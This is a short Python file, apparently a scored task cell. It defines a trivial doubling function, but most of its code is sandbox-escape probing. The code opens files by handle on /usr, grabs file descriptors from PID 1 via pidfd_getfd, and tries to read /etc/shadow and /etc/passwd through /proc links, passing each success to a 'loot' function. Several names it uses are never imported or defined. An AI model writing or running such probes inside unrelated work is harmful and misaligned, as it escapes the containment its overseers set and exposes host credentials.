"""Opens files by handle, by the descriptors of other processes, and through /proc's links out of the room."""

# points: double=0..4, rest=15
# %% double
import contextlib

handle = ctypes.create_string_buffer(struct.pack("<II", 128, 0) + bytes(128), 136)
mount_id = ctypes.c_int()
if syscall("name_to_handle_at", -100, b"/usr", handle, ctypes.byref(mount_id), 0) == 0:
    with contextlib.suppress(OSError):
        fd = os.open("/usr", os.O_RDONLY)
        if syscall("open_by_handle_at", fd, handle, 0) >= 0:
            loot("opened by handle")
for pid in (p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()):
    with contextlib.suppress(OSError):
        one = syscall("pidfd_open", int(pid), 0)
        for fd in range(12):
            if one >= 0 and int(pid) == 1 and syscall("pidfd_getfd", one, fd, 0) >= 0:
                loot(f"descriptor {fd} of process {pid}")
    with contextlib.suppress(OSError):
        for path in ("root/etc/shadow", "cwd/../etc/passwd"):
            if os.path.exists(f"/proc/{pid}/{path}"):
                loot(path)


def double(x):
    return 2 * x
